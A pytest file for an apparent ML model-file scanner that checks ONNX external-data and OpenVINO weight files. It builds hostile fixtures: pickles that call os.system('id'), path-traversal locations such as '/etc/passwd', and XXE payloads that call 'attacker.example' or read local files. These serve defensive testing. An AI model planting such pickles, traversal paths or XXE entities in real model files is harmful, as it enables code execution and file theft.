"""Headerless weight files beside the model that names them: ONNX external data and OpenVINO ``.bin``.

Benign ONNX models and their external data are written by the real ``onnx`` package
(``onnx.save_model(..., save_as_external_data=True)``, pinned in constraints.txt); hostile variants
edit the ``external_data`` entries with the ``onnx`` protobuf API (CVE-2022-25882 / CVE-2024-27318:
locations that leave the folder), or the folder (links, directories, FIFOs, short files). OpenVINO is
not installable here: the IR is written by hand in the layout ``openvino.save_model`` produces
(``<net><layers><layer ... version="opsetN"><data offset size/>``). Nothing is ever loaded."""

from __future__ import annotations

import os
import pickle
import zipfile
from pathlib import Path

import numpy as np
import pytest

from mlgate.api import scan
from mlgate.model import FindingKind, Report, Verdict
from mlgate.policy import Policy

onnx = pytest.importorskip("onnx")
from onnx import TensorProto, helper, numpy_helper  # noqa: E402


def model(n: int = 3, size: int = 64) -> onnx.ModelProto:
    inits = [numpy_helper.from_array(np.full((size, size), i, dtype=np.float32), f"w{i}") for i in range(n)]
    nodes = [helper.make_node("MatMul", ["x" if i == 0 else f"h{i - 1}", f"w{i}"], [f"h{i}"]) for i in range(n)]
    g = helper.make_graph(nodes, "g", [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, size])],
                          [helper.make_tensor_value_info(f"h{n - 1}", TensorProto.FLOAT, [1, size])],
                          initializer=inits)
    return helper.make_model(g, opset_imports=[helper.make_opsetid("", 17)], producer_name="mlgate-tests")


def by_subject(r: Report) -> dict[str, object]:
    return {s.subject: s for s in r.subjects}


def ids_of(r: Report, subject_suffix: str) -> list[str]:
    return [f.id for s in r.subjects if s.subject.endswith(subject_suffix) for f in s.findings]


def set_location(m: onnx.ModelProto, location: str, offset: int = 0, length: int | None = None) -> None:
    for t in m.graph.initializer:
        t.ClearField("raw_data")
        t.ClearField("float_data")
        t.ClearField("external_data")
        t.data_location = TensorProto.EXTERNAL
        entries = [("location", location), ("offset", str(offset))]
        if length is not None:
            entries.append(("length", str(length)))
        for k, v in entries:
            e = t.external_data.add()
            e.key, e.value = k, v


# --- benign: the real writer's layouts pass, the data files included -----------------------------

@pytest.mark.parametrize("layout", ["one-file", "file-per-tensor", "subfolder"])
def test_real_onnx_external_data_layouts_pass(layout: str, tmp_path: Path, default_policy: Policy) -> None:
    d = tmp_path / "m"
    d.mkdir()
    kw: dict[str, object] = {"save_as_external_data": True, "size_threshold": 0}
    if layout == "one-file":
        kw |= {"all_tensors_to_one_file": True, "location": "model.onnx.data"}
    elif layout == "file-per-tensor":
        kw |= {"all_tensors_to_one_file": False}
    else:
        (d / "weights").mkdir()
        kw |= {"all_tensors_to_one_file": True, "location": "weights/model.bin"}
    onnx.save_model(model(), str(d / "model.onnx"), **kw)
    r = scan(d, policy=default_policy)
    assert len(r.subjects) >= 2
    for s in r.subjects:
        assert s.verdict is Verdict.PASS, (s.subject, [(f.id, f.message) for f in s.findings])
    data = [s for s in r.subjects if not s.subject.endswith("model.onnx")]
    assert all("external-weights" in s.formats for s in data), [(s.subject, s.formats) for s in data]
    assert all(s.details.get("weights_of") == "model.onnx" for s in data)


def test_nested_model_folder_pairs_relative_to_the_model(tmp_path: Path, default_policy: Policy) -> None:
    d = tmp_path / "repo" / "onnx"
    d.mkdir(parents=True)
    onnx.save_model(model(), str(d / "model.onnx"), save_as_external_data=True, location="model.onnx_data",
                    size_threshold=0)
    r = scan(tmp_path / "repo", policy=default_policy)
    assert r.verdict is Verdict.PASS, [(s.subject, [f.id for f in s.findings]) for s in r.subjects]


def test_unreferenced_headerless_file_is_not_pass(tmp_path: Path, default_policy: Policy) -> None:
    d = tmp_path / "m"
    d.mkdir()
    onnx.save_model(model(), str(d / "model.onnx"), save_as_external_data=True, location="a.data", size_threshold=0)
    (d / "b.data").write_bytes((d / "a.data").read_bytes())  # same bytes, named by no model
    r = scan(d, policy=default_policy)
    s = by_subject(r)
    assert s["a.data"].verdict is Verdict.PASS  # type: ignore[attr-defined]
    assert s["b.data"].verdict is not Verdict.PASS  # type: ignore[attr-defined]


def test_pickle_hidden_in_external_data_still_blocks(tmp_path: Path, default_policy: Policy) -> None:
    class Evil:
        def __reduce__(self) -> tuple[object, tuple[str]]:
            return (os.system, ("id",))

    d = tmp_path / "m"
    d.mkdir()
    payload = pickle.dumps(Evil(), protocol=2)
    m = model(n=1, size=16)
    set_location(m, "w.data", 0, 16 * 16 * 4)
    onnx.save_model(m, str(d / "model.onnx"))
    (d / "w.data").write_bytes(payload + b"\x00" * (16 * 16 * 4))
    r = scan(d, policy=default_policy)
    assert by_subject(r)["w.data"].verdict is Verdict.FAIL  # type: ignore[attr-defined]


# --- hostile: the model's subject blocks --------------------------------------------------------

def _write(d: Path, location: str, offset: int = 0, length: int | None = 64 * 64 * 4) -> None:
    m = model(n=1)
    set_location(m, location, offset, length)
    onnx.save_model(m, str(d / "model.onnx"))


def test_symlink_out_of_the_folder_blocks(tmp_path: Path, default_policy: Policy) -> None:
    secret = tmp_path / "secret.bin"
    secret.write_bytes(b"s" * 100_000)
    d = tmp_path / "m"
    d.mkdir()
    (d / "w.data").symlink_to(secret)
    _write(d, "w.data")
    r = scan(d, policy=default_policy)
    assert r.verdict is Verdict.FAIL
    assert "MLG-ONNX-EXTERNAL-PATH" in ids_of(r, "model.onnx")


def test_symlinked_directory_on_the_way_blocks(tmp_path: Path, default_policy: Policy) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "w.data").write_bytes(b"\x00" * 100_000)
    d = tmp_path / "m"
    d.mkdir()
    (d / "sub").symlink_to(outside, target_is_directory=True)
    _write(d, "sub/w.data")
    r = scan(d, policy=default_policy)
    assert "MLG-ONNX-EXTERNAL-PATH" in ids_of(r, "model.onnx")
    assert r.verdict is Verdict.FAIL


def test_directory_and_fifo_locations_block(tmp_path: Path, default_policy: Policy) -> None:
    for i, make in enumerate((lambda p: p.mkdir(), lambda p: os.mkfifo(p))):
        d = tmp_path / f"m{i}"
        d.mkdir()
        make(d / "w.data")
        _write(d, "w.data")
        r = scan(d / "model.onnx", policy=default_policy)
        assert ids_of(r, "model.onnx") == ["MLG-ONNX-EXTERNAL-PATH"], ids_of(r, "model.onnx")
        assert r.verdict is Verdict.FAIL


@pytest.mark.parametrize("location", ["/dev/zero", "../secret.bin", "/etc/passwd", "a/../../secret.bin"])
def test_locations_that_leave_the_folder_block(location: str, tmp_path: Path, default_policy: Policy) -> None:
    (tmp_path / "secret.bin").write_bytes(b"s" * 100_000)
    d = tmp_path / "m"
    d.mkdir()
    _write(d, location)
    r = scan(d, policy=default_policy)
    assert "MLG-ONNX-EXTERNAL-PATH" in ids_of(r, "model.onnx")
    assert r.verdict is Verdict.FAIL


def test_short_external_file_blocks(tmp_path: Path, default_policy: Policy) -> None:
    d = tmp_path / "m"
    d.mkdir()
    _write(d, "w.data", offset=1024)
    (d / "w.data").write_bytes(b"\x00" * (64 * 64 * 4))  # 1024 bytes short
    r = scan(d, policy=default_policy)
    got = [f for s in r.subjects for f in s.findings if f.id == "MLG-ONNX-EXTERNAL-RANGE"]
    assert got
    assert "needs bytes [1024, 17408)" in got[0].message
    assert r.verdict is Verdict.FAIL


def test_length_shorter_than_the_shape_blocks(tmp_path: Path, default_policy: Policy) -> None:
    d = tmp_path / "m"
    d.mkdir()
    _write(d, "w.data", length=16)
    (d / "w.data").write_bytes(b"\x00" * (64 * 64 * 4))
    r = scan(d, policy=default_policy)
    assert "MLG-ONNX-TENSOR" in ids_of(r, "model.onnx")


def test_missing_external_file_is_incomplete(tmp_path: Path, default_policy: Policy) -> None:
    d = tmp_path / "m"
    d.mkdir()
    _write(d, "w.data")
    r = scan(d, policy=default_policy)
    f = [f for s in r.subjects for f in s.findings if f.id == "MLG-ONNX-EXTERNAL-UNCHECKED"]
    assert f
    assert f[0].kind is FindingKind.UNSUPPORTED
    assert "does not exist" in f[0].message
    assert r.verdict is not Verdict.PASS


def test_model_with_external_data_inside_an_archive_is_incomplete(tmp_path: Path, default_policy: Policy) -> None:
    m = model(n=1)
    set_location(m, "w.data", 0, 64 * 64 * 4)
    with zipfile.ZipFile(tmp_path / "bundle.zip", "w") as z:
        z.writestr("model.onnx", m.SerializeToString())
        z.writestr("w.data", b"\x00" * (64 * 64 * 4))
    r = scan(tmp_path / "bundle.zip", policy=default_policy)
    assert "MLG-ONNX-EXTERNAL-UNCHECKED" in ids_of(r, "bundle.zip")
    assert r.verdict is not Verdict.PASS


# --- OpenVINO IR --------------------------------------------------------------------------------

IR = """<?xml version="1.0"?>
<net name="m" version="11">
  <layers>
    <layer id="0" name="x" type="Parameter" version="opset1"><data shape="1,4" element_type="f32"/></layer>
    <layer id="1" name="w" type="Const" version="opset1"><data element_type="f32" shape="4,4" offset="0" size="64"/></layer>
    <layer id="2" name="mm" type="MatMul" version="opset1"/>
    <layer id="3" name="y" type="Result" version="opset1"/>
  </layers>
  <edges/>
</net>
"""


def test_openvino_ir_and_its_bin_pass(tmp_path: Path, default_policy: Policy) -> None:
    (tmp_path / "model.xml").write_text(IR)
    (tmp_path / "model.bin").write_bytes(np.arange(16, dtype=np.float32).tobytes())
    r = scan(tmp_path, policy=default_policy)
    s = by_subject(r)
    assert r.verdict is Verdict.PASS, [(x.subject, [(f.id, f.message) for f in x.findings]) for x in r.subjects]
    assert "external-weights" in s["model.bin"].formats  # type: ignore[attr-defined]


def test_openvino_bin_without_a_valid_ir_is_not_pass(tmp_path: Path, default_policy: Policy) -> None:
    (tmp_path / "model.bin").write_bytes(np.arange(16, dtype=np.float32).tobytes())
    (tmp_path / "model.xml").write_text(IR.replace("<edges/>", "<edges/><!-- cut"))
    r = scan(tmp_path, policy=default_policy)
    assert by_subject(r)["model.bin"].verdict is not Verdict.PASS  # type: ignore[attr-defined]


def test_openvino_short_or_linked_bin_blocks(tmp_path: Path, default_policy: Policy) -> None:
    a = tmp_path / "a"
    a.mkdir()
    (a / "model.xml").write_text(IR)
    (a / "model.bin").write_bytes(b"\x00" * 32)
    r = scan(a, policy=default_policy)
    assert "MLG-SERVE-OPENVINO-WEIGHTS" in ids_of(r, "model.xml")
    b = tmp_path / "b"
    b.mkdir()
    (b / "model.xml").write_text(IR)
    (b / "model.bin").symlink_to("/dev/zero")
    r = scan(b, policy=default_policy)
    assert "MLG-SERVE-OPENVINO-WEIGHTS" in ids_of(r, "model.xml")
    assert r.verdict is Verdict.FAIL


def test_openvino_missing_bin_is_incomplete(tmp_path: Path, default_policy: Policy) -> None:
    (tmp_path / "model.xml").write_text(IR)
    r = scan(tmp_path, policy=default_policy)
    assert "MLG-SERVE-OPENVINO-WEIGHTS-UNCHECKED" in ids_of(r, "model.xml")
    assert r.verdict is not Verdict.PASS


@pytest.mark.parametrize("doc", [
    '<?xml version="1.0"?>\n<!DOCTYPE net SYSTEM "http://attacker.example/x.dtd">\n<net name="m"/>\n',
    '<?xml version="1.0"?>\n<!DOCTYPE net [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<net name="&x;"/>\n',
    '<?xml version="1.0"?>\n<!DOCTYPE net [<!ENTITY % p SYSTEM "http://a.example/p">%p;]>\n<net/>\n',
])
def test_openvino_dtd_and_external_entities_block(doc: str, tmp_path: Path, default_policy: Policy) -> None:
    (tmp_path / "model.xml").write_text(doc)
    r = scan(tmp_path / "model.xml", policy=default_policy)
    assert r.verdict is Verdict.FAIL, [(f.id, f.message) for s in r.subjects for f in s.findings]


def test_openvino_utf16_doctype_is_refused(tmp_path: Path) -> None:
    """The refusal sees the parsed declaration, not bytes: a UTF-16 document cannot hide it."""
    from mlgate.gates.model_scan.blob import bytes_blob
    from mlgate.gates.model_scan.formats.serving import parse_openvino_xml

    doc = '<?xml version="1.0" encoding="UTF-16"?>\n<!DOCTYPE net [<!ENTITY a "aaaa">]>\n<net name="&a;"/>\n'
    ir, why = parse_openvino_xml(bytes_blob("m.xml", doc.encode("utf-16")), 1 << 20)
    assert ir is None
    assert why
    assert "DOCTYPE" in why


def test_openvino_extension_layer_in_a_loop_body_blocks(tmp_path: Path, default_policy: Policy) -> None:
    doc = IR.replace('<layer id="2" name="mm" type="MatMul" version="opset1"/>',
                     '<layer id="2" name="loop" type="Loop" version="opset5"><body><layers>'
                     '<layer id="0" name="evil" type="Steal" version="custom_ext"/></layers></body></layer>')
    (tmp_path / "model.xml").write_text(doc)
    (tmp_path / "model.bin").write_bytes(b"\x00" * 64)
    r = scan(tmp_path, policy=default_policy)
    assert "MLG-SERVE-OPENVINO-EXTENSION" in ids_of(r, "model.xml")
    assert r.verdict is Verdict.FAIL


@pytest.mark.parametrize("prolog", ["", '<?xml version="1.0"?>\n<!-- converted -->\n',
                                    '<!DOCTYPE foo [<!ENTITY a "b">]>\n', '<?xml version="1.0"?><!DOCTYPE net>'])
def test_openvino_sniff_sees_through_the_prolog(prolog: str) -> None:
    from mlgate.gates.model_scan.formats.serving import looks_like_openvino_xml

    assert looks_like_openvino_xml((prolog + '<net name="m" version="11"><layers/></net>').encode())
    if "DOCTYPE net" not in prolog:  # (a declared <net> root is analysed as an IR: malformed, never text)
        assert not looks_like_openvino_xml((prolog + '<html><body/></html>').encode())


def test_naming_a_file_as_external_data_never_hides_an_executable_or_code(tmp_path: Path,
                                                                           default_policy: Policy) -> None:
    """Pairing only covers what random tensor bytes can look like: a file with a real magic (an ELF)
    or code is analysed as what it is, whatever model names it."""
    d = tmp_path / "m"
    d.mkdir()
    m = model(n=2, size=8)
    for t, loc in zip(m.graph.initializer, ("payload.data", "hook.py"), strict=True):
        t.ClearField("float_data")
        t.ClearField("raw_data")
        t.data_location = TensorProto.EXTERNAL
        for k, v in (("location", loc), ("offset", "0"), ("length", "256")):
            e = t.external_data.add()
            e.key, e.value = k, v
    onnx.save_model(m, str(d / "model.onnx"))
    (d / "payload.data").write_bytes(b"\x7fELF\x02\x01\x01" + b"\x00" * 600)
    (d / "hook.py").write_text("import os\nos.system('id')\n" + "#" * 300)
    r = scan(d, policy=default_policy)
    s = by_subject(r)
    assert "MLG-EXEC-BINARY" in ids_of(r, "payload.data")
    assert s["hook.py"].verdict is Verdict.FAIL  # type: ignore[attr-defined]
    assert s["model.onnx"].verdict is Verdict.PASS  # type: ignore[attr-defined]


def test_single_file_scan_of_external_data_pairs_with_the_model_beside_it(tmp_path: Path,
                                                                          default_policy: Policy) -> None:
    onnx.save_model(model(), str(tmp_path / "model.onnx"), save_as_external_data=True, location="w.data",
                    size_threshold=0)
    r = scan(tmp_path / "w.data", policy=default_policy)
    assert r.verdict is Verdict.PASS, [(f.id, f.message) for s in r.subjects for f in s.findings]


# --- OpenVINO IR written by the real library (tests/model_scan/formats/data/make_openvino_fixtures.py) ----

OV_DATA = Path(__file__).parent / "data" / "openvino"


@pytest.mark.parametrize("name", ["mlp", "loop"])
def test_real_openvino_ir_and_weights_pass(name: str, tmp_path: Path, default_policy: Policy) -> None:
    import shutil

    for ext in (".xml", ".bin"):
        shutil.copy(OV_DATA / f"{name}{ext}", tmp_path / f"{name}{ext}")
    r = scan(tmp_path, policy=default_policy)
    assert r.verdict is Verdict.PASS, [(s.subject, [(f.id, f.message) for f in s.findings]) for s in r.subjects]
    assert "external-weights" in by_subject(r)[f"{name}.bin"].formats  # type: ignore[attr-defined]


def test_real_openvino_custom_op_blocks(tmp_path: Path, default_policy: Policy) -> None:
    """openvino.save_model of a model with a Python custom op (openvino.Op) writes version="extension"."""
    import shutil

    for ext in (".xml", ".bin"):
        shutil.copy(OV_DATA / f"custom{ext}", tmp_path / f"custom{ext}")
    r = scan(tmp_path / "custom.xml", policy=default_policy)
    assert r.verdict is Verdict.FAIL
    assert any("extension::Identity" in f.message for s in r.subjects for f in s.findings)


@pytest.mark.parametrize(("version", "typ", "ok"), [
    ("opset1", "Relu", True), ("opset1", "ReLU", True),  # the reader is case-insensitive (the real writer: ReLU)
    ("opset1", "Const", True), ("opset13", "ScaledDotProductAttention", True),
    ("opset1", "ScaledDotProductAttention", False),  # not in opset1: only an extension could supply it
    ("opset1", "Steal", False), ("opset99", "Relu", False), ("custom_ext", "Relu", False),
])
def test_openvino_layer_types_are_judged_per_opset(version: str, typ: str, ok: bool, tmp_path: Path,
                                                   default_policy: Policy) -> None:
    doc = IR.replace('type="MatMul" version="opset1"', f'type="{typ}" version="{version}"')
    (tmp_path / "model.xml").write_text(doc)
    (tmp_path / "model.bin").write_bytes(b"\x00" * 64)
    r = scan(tmp_path / "model.xml", policy=default_policy)
    assert (r.verdict is Verdict.PASS) is ok, [(f.id, f.message) for s in r.subjects for f in s.findings]


# --- differential: onnx's own external-data resolver (the C++ open the loader uses) -------------------

def _layout(tmp_path: Path) -> Path:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.bin").write_bytes(b"s" * 4096)
    d = tmp_path / "m"
    (d / "sub").mkdir(parents=True)
    (d / "w.data").write_bytes(b"\x00" * 4096)
    (d / "sub" / "w.data").write_bytes(b"\x00" * 4096)
    (d / "adir").mkdir()
    (d / "link_out").symlink_to(outside / "secret.bin")
    (d / "link_in").symlink_to(d / "w.data")
    (d / "dir_link").symlink_to(outside, target_is_directory=True)
    return d


DIFF_LOCATIONS = ["w.data", "./w.data", "sub/w.data", "sub//w.data", "missing.data", "adir", "link_out", "link_in",
                  "dir_link/secret.bin", "../outside/secret.bin", "sub/../../outside/secret.bin",
                  "/etc/passwd", "/dev/zero", "~/x", ".", ""]


@pytest.mark.parametrize("location", DIFF_LOCATIONS)
def test_resolution_never_accepts_what_onnx_refuses(location: str, tmp_path: Path) -> None:
    """onnx 1.23's loader opens external data through ``checker._open_external_data`` (path checks in
    C++). Whatever it refuses, the gate refuses too (block or incomplete); what the gate accepts, onnx
    opens. The gate is stricter on purpose for links that stay inside the folder (``link_in``)."""
    from onnx.onnx_cpp2py_export import checker as c_checker

    from mlgate.gates.model_scan.formats.onnx import bad_location, resolve_external

    d = _layout(tmp_path)
    try:
        fd = c_checker._open_external_data(str(d), location, "t", True)
    except Exception:
        onnx_ok = False
    else:
        os.close(fd)
        onnx_ok = True
    why = bad_location(location)
    if why is None:
        why, size = resolve_external(str(d), location)
        ours_ok = why is None and size is not None
    else:
        ours_ok = False
    if ours_ok:
        assert onnx_ok, f"the gate accepts {location!r}, onnx refuses it"
    if location == "link_in":
        assert not ours_ok  # stricter than onnx: no link is followed


def _external(d: Path, loc: str, nbytes: int) -> None:
    m = model(n=1, size=16)
    set_location(m, loc, 0, nbytes)
    onnx.save_model(m, str(d / "model.onnx"))


EVIL_PICKLE = b"cos\nsystem\n(S'id'\ntR."  # protocol 0 os.system('id'), never loaded


@pytest.mark.parametrize("variant", ["whole", "truncated"])
def test_compressed_pickle_named_as_external_data_still_blocks(variant: str, tmp_path: Path,
                                                               default_policy: Policy) -> None:
    """joblib.load of the same file would decompress and unpickle it (a truncated stream runs what came
    out before the break): naming it as ONNX weights does not turn it into raw bytes."""
    import zlib

    stream = zlib.compress(EVIL_PICKLE + b"\x00" * 2000)
    if variant == "truncated":
        stream = stream[: len(stream) - 6]
    d = tmp_path / "m"
    d.mkdir()
    (d / "w.data").write_bytes(stream + b"\x00" * (1024 - len(stream) % 1024))
    _external(d, "w.data", 1024)
    r = scan(d, policy=default_policy)
    assert by_subject(r)["w.data"].verdict is Verdict.FAIL, ids_of(r, "w.data")  # type: ignore[attr-defined]


def test_weights_that_merely_start_like_zlib_or_msgpack_pass(tmp_path: Path, default_policy: Policy) -> None:
    rng = np.random.default_rng(7)
    for i, prefix in enumerate((b"\x78\x9c", b"\x78\x01", b"\x81\xa1")):
        d = tmp_path / f"m{i}"
        d.mkdir()
        (d / "w.data").write_bytes(prefix + rng.integers(0, 256, 1022, dtype=np.uint8).tobytes())
        _external(d, "w.data", 1024)
        r = scan(d, policy=default_policy)
        assert by_subject(r)["w.data"].verdict is Verdict.PASS, (prefix, ids_of(r, "w.data"))  # type: ignore[attr-defined]


def test_real_msgpack_with_foreign_ext_type_named_as_weights_blocks(tmp_path: Path, default_policy: Policy) -> None:
    msgpack = pytest.importorskip("msgpack")
    doc = msgpack.packb({"params": msgpack.ExtType(42, b"payload")})
    d = tmp_path / "m"
    d.mkdir()
    (d / "w.data").write_bytes(doc)
    _external(d, "w.data", len(doc))
    r = scan(d, policy=default_policy)
    assert "MLG-SERVE-MSGPACK-EXT" in ids_of(r, "w.data")


def test_pairing_in_worker_processes(tmp_path: Path, default_policy: Policy) -> None:
    """Enough files for the process pool (gates.model-scan.process_pool_min_files): each worker pairs the
    data files it gets with the model through its own caches."""
    from mlgate.gates.model_scan import plan_workers
    from mlgate.gates.model_scan.config import ModelScanConfig

    d = tmp_path / "m"
    d.mkdir()
    onnx.save_model(model(n=24, size=8), str(d / "model.onnx"), save_as_external_data=True,
                    all_tensors_to_one_file=False, size_threshold=0)
    files = list(d.iterdir())
    assert len(files) == 25
    mode, _ = plan_workers(len(files), ModelScanConfig())
    r = scan(d, policy=default_policy)
    assert r.verdict is Verdict.PASS, [(s.subject, [f.id for f in s.findings]) for s in r.subjects
                                       if s.verdict is not Verdict.PASS]
    assert sum("external-weights" in s.formats for s in r.subjects) == 24
    if mode != "processes":
        pytest.skip("one CPU here: the scan ran inline (pairing still checked above)")
